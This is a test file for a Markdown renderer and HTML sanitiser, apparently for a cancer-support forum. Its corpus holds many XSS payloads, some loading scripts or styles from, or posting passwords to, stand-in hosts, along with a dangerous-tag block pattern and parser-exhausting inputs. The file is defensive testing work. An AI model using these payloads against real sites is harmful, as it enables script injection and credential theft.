import fc from 'fast-check';
import { extractMentions, MAX_MENTIONS, plainTextExcerpt, renderMarkdown } from './markdown';
import { LINK_REL, sanitizeRenderedHtml } from './markdown-sanitize';

/** What may appear in rendered HTML: tag -> attributes. Mirrors the allowlist in markdown-sanitize.ts on purpose (a change
 *  there has to be made here too). */
const ALLOWED: Record<string, string[]> = {
  p: [],
  br: [],
  hr: [],
  blockquote: [],
  pre: [],
  code: ['class'],
  em: [],
  strong: [],
  del: [],
  s: [],
  ul: [],
  ol: ['start'],
  li: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  a: ['href', 'title', 'rel'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['align'],
  td: ['align'],
};
const TAG = /<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g;
const ATTRIBUTE = /\s+([^\s=/>]+)(?:="([^"]*)")?/g;
const DANGEROUS_TAG =
  /<\/?\s*(?:script|style|iframe|frame|object|embed|svg|math|form|input|button|textarea|select|meta|base|link|img|video|audio|source|template|body|html|xml|div|span)\b/i;

function decodeEntities(value: string): string {
  const fromCodePoint = (code: number) => (code <= 0x10ffff ? String.fromCodePoint(code) : '\uFFFD');
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_m, dec: string) => fromCodePoint(parseInt(dec, 10)))
    .replace(/&(quot|amp|lt|gt|apos|colon|tab|newline);/gi, (_m, name: string) => {
      const named: Record<string, string> = { quot: '"', amp: '&', lt: '<', gt: '>', apos: "'", colon: ':' };
      return named[name.toLowerCase()] ?? ' ';
    });
}

/** Every check the brief asks for, over the output as a browser would see it. */
function expectSafe(html: string): void {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(DANGEROUS_TAG);
  // Attribute values are quoted and escaped by the sanitiser, so text such as a title of 'x onclick=y' is inert;
  // blank them out, then no tag may carry an on…= or target= attribute.
  const tagsOnly = html.replace(/="[^"]*"/g, '=""');
  expect(tagsOnly).not.toMatch(/<[^>]*\son\w+\s*=/i);
  expect(tagsOnly).not.toMatch(/<[^>]*\starget\s*=/i);
  // Outside the allowed tags, no < or > is left unescaped: nothing else can be markup.
  expect(html.replace(TAG, '')).not.toMatch(/[<>]/);
  for (const [, closing, name, attributes] of html.matchAll(TAG)) {
    const tag = name.toLowerCase();
    expect(Object.keys(ALLOWED)).toContain(tag);
    for (const [, attribute, rawValue = ''] of attributes.matchAll(ATTRIBUTE)) {
      expect(ALLOWED[tag]).toContain(attribute.toLowerCase());
      const value = decodeEntities(rawValue);
      if (attribute === 'href') {
        // eslint-disable-next-line no-control-regex
        const squeezed = value.replace(/[\u0000-\u0020\u007f-\u009f\u200b]/g, '').toLowerCase();
        expect(squeezed).not.toMatch(/^(?:javascript|vbscript|data|file|about):/);
        expect(value).toMatch(/^(?:https?:\/\/|mailto:)/i);
      }
      if (attribute === 'rel') expect(value).toBe(LINK_REL);
      if (attribute === 'class') expect(value).toMatch(/^language-[a-z0-9+#-]{1,20}$/);
    }
    if (tag === 'a' && !closing) expect(attributes).toMatch(/^ href="[^"]*"(?: title="[^"]*")? rel="[^"]*"$/);
  }
  expect(sanitizeRenderedHtml(html)).toBe(html); // idempotent: the output is already inside the allowlist
}

describe(renderMarkdown.name, () => {
  describe('formatting', () => {
    it('renders emphasis, strikethrough and single-newline line breaks', () => {
      expect(renderMarkdown('Some **bold**, _italic_ and ~~struck~~ text\nand a new line')).toBe(
        '<p>Some <strong>bold</strong>, <em>italic</em> and <del>struck</del> text<br />and a new line</p>\n',
      );
    });

    it('renders lists, ordered lists with their start, and task lists as ballot boxes', () => {
      expect(renderMarkdown('- tea\n- toast')).toBe('<ul>\n<li>tea</li>\n<li>toast</li>\n</ul>\n');
      expect(renderMarkdown('3. third\n4. fourth')).toBe('<ol start="3">\n<li>third</li>\n<li>fourth</li>\n</ol>\n');
      expect(renderMarkdown('- [x] scan booked\n- [ ] bloods')).toBe(
        '<ul>\n<li>☑ scan booked</li>\n<li>☐ bloods</li>\n</ul>\n',
      );
    });

    it('renders block quotes and thematic breaks', () => {
      expect(renderMarkdown('> one day\n> at a time\n\n---')).toBe(
        '<blockquote>\n<p>one day<br />at a time</p>\n</blockquote>\n<hr />\n',
      );
    });

    it('moves headings down two levels so a post cannot outrank the page', () => {
      expect(renderMarkdown('# One\n## Two\n### Three\n#### Four\n###### Six')).toBe(
        '<h3>One</h3>\n<h4>Two</h4>\n<h5>Three</h5>\n<h6>Four</h6>\n<h6>Six</h6>\n',
      );
      expect(renderMarkdown('Title\n===')).toBe('<h3>Title</h3>\n');
    });

    it('renders code spans and blocks escaped, with a language class only when it is a plain name', () => {
      expect(renderMarkdown('Use `<b>` & `a && b`')).toBe(
        '<p>Use <code>&lt;b&gt;</code> &amp; <code>a &amp;&amp; b</code></p>\n',
      );
      expect(renderMarkdown('```ts\nconst a = "<x>" && 1;\n```')).toBe(
        '<pre><code class="language-ts">const a = "&lt;x&gt;" &amp;&amp; 1;\n</code></pre>\n',
      );
      expect(renderMarkdown('```C#\nx\n```')).toContain('<code class="language-c#">');
      expect(renderMarkdown('```c++ title="x"\nx\n```')).toContain('<code class="language-c++">');
      expect(renderMarkdown('```"onclick=x\nx\n```')).toBe('<pre><code>x\n</code></pre>\n');
      expect(renderMarkdown('```averyveryverylonglanguagename\nx\n```')).toBe('<pre><code>x\n</code></pre>\n');
      expect(renderMarkdown('    indented code\n')).toBe('<pre><code>indented code\n</code></pre>\n');
    });

    it('renders tables with their alignment', () => {
      expect(renderMarkdown('| Time | Dose |\n|:-----|-----:|\n| 08:00 | 4 mg |')).toBe(
        '<table>\n<thead>\n<tr>\n<th align="left">Time</th>\n<th align="right">Dose</th>\n</tr>\n</thead>\n' +
          '<tbody><tr>\n<td align="left">08:00</td>\n<td align="right">4 mg</td>\n</tr>\n</tbody></table>\n',
      );
    });

    it('renders links with rel="ugc nofollow noopener" and no target', () => {
      expect(renderMarkdown('[the clinic](https://clinic.example/contact "Opening hours")')).toBe(
        '<p><a href="https://clinic.example/contact" title="Opening hours" rel="ugc nofollow noopener">the clinic</a></p>\n',
      );
      expect(renderMarkdown('[write to us](mailto:care@haven.example)')).toBe(
        '<p><a href="mailto:care@haven.example" rel="ugc nofollow noopener">write to us</a></p>\n',
      );
    });

    it('autolinks bare URLs, www. addresses, e-mail addresses and <…> links', () => {
      expect(
        renderMarkdown('see https://a.example/x?y=1&z=2 or www.b.example, mail c@d.example, <https://e.example>'),
      ).toBe(
        '<p>see <a href="https://a.example/x?y=1&amp;z=2" rel="ugc nofollow noopener">https://a.example/x?y=1&amp;z=2</a>' +
          ' or <a href="http://www.b.example" rel="ugc nofollow noopener">www.b.example</a>,' +
          ' mail <a href="mailto:c@d.example" rel="ugc nofollow noopener">c@d.example</a>,' +
          ' <a href="https://e.example" rel="ugc nofollow noopener">https://e.example</a></p>\n',
      );
    });

    it('percent-encodes what does not belong in a URL', () => {
      expect(renderMarkdown('[x](<https://a.example/my file "x">)')).toContain(
        'href="https://a.example/my%20file%20%22x%22"',
      );
      expect(renderMarkdown('[x](https://a.example/ünï)')).toContain('href="https://a.example/%C3%BCn%C3%AF"');
    });

    it('renders links it cannot allow as their text: relative, protocol-relative and other schemes', () => {
      expect(
        renderMarkdown('[a](/groups/1) [b](//evil.example) [c](/\\evil.example) [d](#top) [e](ftp://x.example)'),
      ).toBe('<p>a b c d e</p>\n');
      expect(renderMarkdown('[call](tel:+441234) [chat](irc://x.example)')).toBe('<p>call chat</p>\n');
    });

    it('renders images as links labelled with their alt text, never as <img>', () => {
      expect(renderMarkdown('![my scan](https://img.example/scan.png "March")')).toBe(
        '<p><a href="https://img.example/scan.png" title="March" rel="ugc nofollow noopener">my scan</a></p>\n',
      );
      expect(renderMarkdown('![](https://img.example/x.png)')).toBe(
        '<p><a href="https://img.example/x.png" rel="ugc nofollow noopener">https://img.example/x.png</a></p>\n',
      );
      expect(renderMarkdown('![pixel](javascript:alert(1))')).toBe('<p>pixel</p>\n');
    });

    it('shows raw HTML literally, as the member typed it, with the Markdown around it still working', () => {
      expect(renderMarkdown('I typed <b>this</b> & it **stayed**')).toBe(
        '<p>I typed &lt;b&gt;this&lt;/b&gt; &amp; it <strong>stayed</strong></p>\n',
      );
      expect(renderMarkdown('<div>\n*hello*\n</div>')).toBe(
        '<p>&lt;div&gt;<br /><em>hello</em></p>\n<p>&lt;/div&gt;</p>\n',
      );
      expect(renderMarkdown('<!-- note -->')).toBe('<p>&lt;!-- note --&gt;</p>\n');
    });

    it('keeps character references as text', () => {
      expect(renderMarkdown('&copy; &#169; &lt;b&gt; I <3 you')).toBe('<p>© © &lt;b&gt; I &lt;3 you</p>\n');
    });

    it('returns an empty string for empty or non-string input', () => {
      expect(renderMarkdown('')).toBe('');
      expect(renderMarkdown(undefined as unknown as string)).toBe('');
      expect(renderMarkdown(null as unknown as string)).toBe('');
    });

    it('renders a long, realistic post within the allowlist', () => {
      const html = renderMarkdown(realisticPost(20_000));
      expectSafe(html);
      expect(html.match(/<table>/g)?.length).toBeGreaterThan(10);
      expect(html).toContain(
        '<a href="https://www.cancer.org/treatment/side-effects.html" rel="ugc nofollow noopener">',
      );
    });
  });

  describe('XSS corpus', () => {
    const payloads: string[] = [
      // raw HTML (OWASP filter evasion cheat sheet and friends)
      '<script>alert(1)</script>',
      '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
      '<script>alert(String.fromCharCode(88,83,83))</script>',
      '<<script>script>alert(1)<</script>/script>',
      '<scr<script>ipt>alert(1)</script>',
      '<scr\0ipt>alert(1)</scr\0ipt>',
      '\u0000<script>alert(1)</script>',
      '"><script>alert(1)</script>',
      "'><img src=x onerror=alert(1)>",
      '<img src=x onerror=alert(1)>',
      '<IMG SRC="javascript:alert(\'XSS\');">',
      '<IMG SRC=JaVaScRiPt:alert(1)>',
      '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
      '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
      '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
      '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
      '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
      '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
      '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
      '<svg onload=alert(1)>',
      '<svg/onload=alert(1)//',
      '<svg><script>alert(1)</script></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<body onload=alert(1)>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>">',
      '<object data="javascript:alert(1)">',
      '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<a href=" javascript:alert(1)">x</a>',
      '<a href="javas\u200Bcript:alert(1)">x</a>',
      '<a href="vbscript:msgbox(1)">x</a>',
      '<a href="data:text/html,<script>alert(1)</script>">x</a>',
      '<a onmouseover="alert(1)">x</a>',
      '<a href="https://ok.example" onclick="alert(1)" target="_blank" style="color:red">x</a>',
      '<a href="https://ok.example">unclosed',
      '<div style="background-image: url(javascript:alert(1))">x</div>',
      '<div style="width: expression(alert(1))">x</div>',
      '<p class="admin-banner" id="login">fake notice</p>',
      '<style>@import "https://evil.example/x.css";</style>',
      '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<meta http-equiv="refresh" content="0; url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
      '<base href="https://evil.example/">',
      '<form action="https://evil.example/"><input name="password" type="password"><button>Log in</button></form>',
      '<input onfocus=alert(1) autofocus>',
      '<details open ontoggle=alert(1)>',
      '<video><source onerror="alert(1)">',
      '<audio src=x onerror=alert(1)>',
      '<marquee onstart=alert(1)>',
      '<table background="javascript:alert(1)"><td background="javascript:alert(1)">',
      '<x onclick=alert(1)>click',
      '<!--<script>alert(1)</script>-->',
      '<![CDATA[<script>alert(1)</script>]]>',
      '<? echo "<script>alert(1)</script>"; ?>',
      '<textarea><script>alert(1)</script></textarea>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<template><script>alert(1)</script></template>',
      '<b><i><u>nested <script>alert(1)',
      // Markdown links, images and autolinks
      '[x](javascript:alert(1))',
      '[x](JAVASCRIPT:alert(1))',
      '[x]( javascript:alert(1))',
      '[x](javascript&#58;alert(1))',
      '[x](&#106;avascript:alert(1))',
      '[x](jav&#x09;ascript:alert(1))',
      '[x](<javascript:alert(1)>)',
      '[x](javascript:alert(1) "title")',
      '[x](vbscript:msgbox(1))',
      '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
      '[x](//evil.example)',
      '[x](/\\evil.example)',
      '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
      '[x](https://ok.example" onmouseover="alert(1))',
      '[<img src=x onerror=alert(1)>](https://ok.example)',
      '<javascript:alert(1)>',
      '<JAVASCRIPT:alert(1)>',
      '<vbscript:msgbox(1)>',
      '<data:text/html,alert(1)>',
      '[x][ref]\n\n[ref]: javascript:alert(1)',
      '[ref]\n\n[ref]: javascript:alert(1) "t"',
      '[x][ref]\n\n[ref]: <jav&#x61;script:alert(1)>',
      '![x](javascript:alert(1))',
      '![x" onerror="alert(1)](https://img.example/x.png)',
      '![x](https://img.example/x.png" onerror="alert(1))',
      'https://ok.example/<script>alert(1)</script>',
      'www.ok.example/"onmouseover="alert(1)',
      'a@b.example<script>alert(1)</script>',
      // HTML inside Markdown constructs
      '`<script>alert(1)</script>`',
      '```html\n<script>alert(1)</script>\n```',
      '```"><script>alert(1)</script>\nx\n```',
      '```js onload=alert(1)\nx\n```',
      '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
      '> <iframe src=javascript:alert(1)>',
      '- <svg onload=alert(1)>',
      '# <script>alert(1)</script>',
      '**<img src=x onerror=alert(1)>**',
      '[x](https://ok.example)<script>alert(1)</script>',
    ];

    it('has a corpus of at least 40 payloads', () => {
      expect(payloads.length).toBeGreaterThanOrEqual(40);
    });

    it.each(payloads.map((payload) => [payload]))('neutralises %j', (payload) => {
      expectSafe(renderMarkdown(payload));
    });

    it('shows typed tags as text rather than dropping them', () => {
      expect(renderMarkdown('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n');
      expect(renderMarkdown('<img src=x onerror=alert(1)>')).toBe('<p>&lt;img src=x onerror=alert(1)&gt;</p>\n');
    });

    it('keeps the text of a link it refuses', () => {
      expect(renderMarkdown('[click me](javascript:alert(1))')).toBe('<p>click me</p>\n');
      expect(renderMarkdown('<javascript:alert(1)>')).toBe('<p>javascript:alert(1)</p>\n');
    });
  });

  describe('properties', () => {
    const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));
    const dangerous = fc.constantFrom(
      '<script>',
      '</script>',
      '<img src=x onerror=alert(1)>',
      '<svg onload=alert(1)>',
      ' onclick=',
      'javascript:',
      'JaVaScRiPt:',
      'jav&#x09;ascript:',
      '&#106;',
      'data:text/html,',
      'vbscript:',
      '<a href="',
      '">',
      '[',
      ']',
      '](',
      ')',
      '![',
      '<',
      '>',
      '"',
      "'",
      '`',
      '```',
      '\n',
      '\n\n',
      '> ',
      '- ',
      '|',
      '|---|',
      '*',
      '_',
      '~~',
      '\\',
      '&',
      '&#',
      ';',
      ':',
      '//',
      'https://',
      'www.',
      '@',
      '<!--',
      '-->',
      '<style>',
      '<iframe',
      'style=',
    );
    const mixed = fc
      .array(fc.oneof(dangerous, fc.string({ maxLength: 6 }), fc.string({ unit: codeUnit, maxLength: 4 })), {
        maxLength: 60,
      })
      .map((parts) => parts.join(''));

    it('never throws and stays inside the allowlist for arbitrary strings', () => {
      fc.assert(
        fc.property(fc.oneof(fc.string({ maxLength: 400 }), fc.string({ unit: codeUnit, maxLength: 200 })), (input) => {
          expectSafe(renderMarkdown(input));
        }),
        { numRuns: 300 },
      );
    });

    it('never throws and stays inside the allowlist for strings made of dangerous fragments', () => {
      fc.assert(
        fc.property(mixed, (input) => {
          expectSafe(renderMarkdown(input));
        }),
        { numRuns: 1000 },
      );
    });

    it('extracts mentions and excerpts from anything without throwing', () => {
      fc.assert(
        fc.property(fc.oneof(mixed, fc.string({ unit: codeUnit, maxLength: 200 })), (input) => {
          const mentions = extractMentions(input);
          expect(mentions.length).toBeLessThanOrEqual(MAX_MENTIONS);
          mentions.forEach((name) => expect(name).toMatch(/^[a-z0-9_]{3,32}$/));
          const excerpt = plainTextExcerpt(input, 50);
          expect(excerpt.length).toBeLessThanOrEqual(50);
          expect(excerpt).not.toMatch(/<[a-z/!?]/i);
        }),
        { numRuns: 300 },
      );
    });
  });

  describe('hostile input', () => {
    // Each of these took seconds to minutes, or overflowed the stack, with marked's own rules.
    const n = 20_000;
    const hostile: Array<[string, string]> = [
      ['unclosed links, cubic in marked 15', '[a](b'.repeat(n / 5)],
      ['unclosed links with a closing paren at the end', '[a](b'.repeat(n / 5) + ' x)'],
      ['unclosed images', '![a]('.repeat(n / 5)],
      ['alternating emphasis', '*a **a '.repeat(n / 7)],
      ['intraword underscores', '_a'.repeat(n / 2)],
      ['stray asterisks', '*a'.repeat(n / 2)],
      ['unclosed strikethrough', '~~a'.repeat(n / 3)],
      ['unclosed code spans', '``a'.repeat(n / 3)],
      ['table look-alikes', ' |\n|-|\n'.repeat(n / 7)],
      ['deeply nested quotes', '> '.repeat(n / 2) + 'deep'],
      ['deeply nested lists', '- '.repeat(n / 2) + 'deep'],
      ['deeply nested brackets', '['.repeat(n / 2) + ']'.repeat(n / 2)],
      ['long e-mail local part', 'a.'.repeat(n / 2) + '@example.com'],
      ['angle brackets', '<'.repeat(n)],
    ];

    it.each(hostile)('renders %s quickly and without throwing', (_what, input) => {
      const started = process.cpuUsage(); // CPU time: other processes on the machine do not count
      const html = renderMarkdown(input);
      extractMentions(input);
      plainTextExcerpt(input);
      const { user, system } = process.cpuUsage(started);
      expect((user + system) / 1000).toBeLessThan(1_500);
      expect(html.length).toBeGreaterThan(0);
      expect(sanitizeRenderedHtml(html)).toBe(html);
    });

    it('keeps the text of nesting too deep to render', () => {
      const html = renderMarkdown('> '.repeat(40) + 'still here');
      expect(html).toContain('still here');
      expect(html.match(/<blockquote>/g)?.length).toBe(16);
    });
  });
});

describe(extractMentions.name, () => {
  it('finds @usernames, lower-cased and distinct, in order of appearance', () => {
    expect(extractMentions('Thanks @Ann and @bob_smith! @ANN, you too.')).toEqual(['ann', 'bob_smith']);
  });

  it('accepts names of 3 to 32 characters only', () => {
    const name32 = 'a'.repeat(32);
    expect(extractMentions(`@ab @abc @${name32} @${name32}x`)).toEqual(['abc', name32]);
  });

  it('finds names next to punctuation and inside formatting', () => {
    expect(extractMentions("(@ann), @bob. @carl! @dave? @eve's")).toEqual(['ann', 'bob', 'carl', 'dave', 'eve']);
    expect(
      extractMentions(
        '**@ann** _@bob_ ~~@carl~~ [@dave](https://x.example)\n> @eve\n- @fay\n\n| @gus |\n|---|\n| @hal |',
      ),
    ).toEqual(['ann', 'bob', 'carl', 'dave', 'eve', 'fay', 'gus', 'hal']);
  });

  it('ignores e-mail addresses, URLs and domain-like names', () => {
    expect(extractMentions('write to ann@example.com or <bob@example.com>')).toEqual([]);
    expect(extractMentions('https://medium.com/@writer and www.x.example/@someone')).toEqual([]);
    expect(extractMentions('@example.com')).toEqual([]);
    expect(extractMentions('café@ann')).toEqual([]);
  });

  it('ignores code and escaped @', () => {
    expect(extractMentions('`@ann` and\n```\n@bob\n```\n\n    @carl\n\n\\@dave')).toEqual([]);
  });

  it(`returns at most ${MAX_MENTIONS} names`, () => {
    const names = Array.from({ length: 30 }, (_, i) => `user${i}`);
    expect(extractMentions(names.map((name) => `@${name}`).join(' '))).toEqual(names.slice(0, MAX_MENTIONS));
  });

  it('returns nothing for empty or non-string input', () => {
    expect(extractMentions('')).toEqual([]);
    expect(extractMentions(undefined as unknown as string)).toEqual([]);
  });
});

describe(plainTextExcerpt.name, () => {
  it('gives the text without formatting, whitespace collapsed, blocks separated by a space', () => {
    expect(
      plainTextExcerpt(
        '# Update\n\nSome **bold** and _em_ text with a [link](https://x.example).\n\n- one\n- two\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```',
      ),
    ).toBe('Update Some bold and em text with a link. one two quoted a b 1 2 code');
  });

  it('is plain text: references decoded, typed tags removed, no markup', () => {
    expect(plainTextExcerpt('Q&amp;A: I <3 my nurses & doctors')).toBe('Q&A: I <3 my nurses & doctors');
    expect(plainTextExcerpt('<b>hello</b> <script>alert(1)</script> &lt;i&gt;there')).toBe('hello alert(1) there');
    expect(plainTextExcerpt('![my scan](https://img.example/x.png) line\nbreak')).toBe('my scan line break');
    expect(plainTextExcerpt('a <<iframe b </ c <!d')).toBe('a iframe b / c !d');
  });

  it('cuts at a word boundary and marks the cut, within max characters', () => {
    const text = 'word '.repeat(100);
    const excerpt = plainTextExcerpt(text, 42);
    expect(excerpt.length).toBeLessThanOrEqual(42);
    expect(excerpt).toMatch(/^(word )+word…$/);
    expect(plainTextExcerpt(text).length).toBeLessThanOrEqual(200);
    expect(plainTextExcerpt('short text', 42)).toBe('short text');
  });

  it('cuts long words and never splits a surrogate pair', () => {
    expect(plainTextExcerpt('x'.repeat(50), 10)).toBe('xxxxxxxxx…');
    expect(plainTextExcerpt('Hi 😀😀😀😀😀😀', 7)).toBe('Hi 😀…');
    expect(plainTextExcerpt('😀'.repeat(10), 6)).toBe('😀😀…');
  });

  it('returns an empty string for max 0 or empty input', () => {
    expect(plainTextExcerpt('hello', 0)).toBe('');
    expect(plainTextExcerpt('')).toBe('');
  });
});

function realisticPost(length: number): string {
  const day = (
    i: number,
  ) => `Day ${i} after chemo. I woke up **exhausted** again, but _managed_ a short walk with @maria_k.
The nurse said the [side effects](https://www.cancer.org/treatment/side-effects.html) usually ease by the third cycle.
Things that helped:

- ginger tea, small sips
- a cold flannel on the back of the neck
- ~~coffee~~ (not any more)

> "One day at a time" — my mum, every single morning

| Time | Dose | Notes |
|------|-----:|-------|
| 08:00 | 4 mg | with food |
| 20:00 | 4 mg | felt dizzy |

My son's reminder: \`take_pills()\` every 12h. Email the team at care@example.org if you need anything.

`;
  let post = '# My journey so far\n\n';
  for (let i = 1; post.length < length; i++) post += day(i);
  return post.slice(0, length);
}
